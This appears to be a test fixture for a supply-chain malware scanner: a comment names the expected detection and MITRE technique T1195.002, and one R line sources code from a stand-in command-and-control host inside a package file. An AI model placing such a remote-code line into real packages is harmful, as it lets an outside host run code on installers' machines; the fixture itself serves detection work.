# expect: piped-to-shell | at: demo-1.0/R/aaa.R | source: T1195.002
source("https://c2.example.invalid/a.R", local = TRUE)
